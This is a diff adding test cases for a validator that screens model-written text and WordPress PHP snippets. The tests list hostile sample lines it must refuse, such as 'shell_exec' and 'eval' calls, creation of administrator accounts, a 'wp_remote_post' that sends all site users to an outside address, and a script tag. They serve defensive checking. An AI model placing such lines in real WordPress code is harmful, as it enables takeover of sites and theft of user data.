@@ -45,3 +45,41 @@ it('refuses what is empty or too long', () => {
   expect(reason('text', '')).toBe('the model wrote nothing');
   expect(reason('text', 'x'.repeat(5000))).toContain('1200 are allowed');
 });
+
+it.each([
+  ['eval( $code );', 'runs code or commands'],
+  ['$name = `id`;', 'runs code or commands'],
+  ["array_map( 'shell_exec', $commands );", 'runs code or commands'],
+  ["wp_insert_user( array( 'user_login' => 'x', 'role' => 'administrator' ) );", 'makes accounts'],
+  ["wp_get_current_user()->add_cap( 'manage_options' );", 'makes accounts'],
+  ["update_option( 'default_role', 'administrator' );", 'makes accounts'],
+  ["wp_remote_post( 'https://example.org', array( 'body' => get_users() ) );", 'other servers'],
+  ["$run( 'x' );", 'whose name is not written'],
+  ["require 'x.php';", 'includes a file'],
+  ['echo esc_html( $name );', 'prints on init'],
+  ['exit;', 'ends every request'],
+  ['wp_die();', 'ends every request'],
+  ['function again() { return 1; }', 'declares a function'],
+  ['wp_frobnicate( 1 );', 'wp_frobnicate() is no function of WordPress'],
+])('refuses PHP that does more than its clause can ask for: %j', (code, why) => {
+  expect(reason('php', code)).toContain(why);
+});
+
+it.each([
+  "add_action( 'wp_footer', function () { echo esc_html( get_bloginfo( 'name' ) ); } );",
+  "add_action( 'template_redirect', function () { wp_safe_redirect( home_url() ); exit; } );",
+  "if ( function_exists( 'wp_frobnicate' ) ) { wp_frobnicate(); }",
+])('takes PHP that prints and exits in callbacks of hooks: %j', (code) => {
+  expect(reason('php', code)).toBeNull();
+});
+
+it.each([
+  ['I cannot help with that.', 'declined'],
+  ['As an AI language model, I …', 'declined'],
+  ['See https://example.org for more.', 'expected plain sentences'],
+  ['<script>alert( 1 )</script>', 'expected plain sentences'],
+  ['```php\nphpinfo();', 'expected plain sentences'],
+  ['{"plan": 1}', 'expected plain sentences'],
+])('refuses a text that is no text: %j', (text, why) => {
+  expect(reason('text', text)).toContain(why);
+});
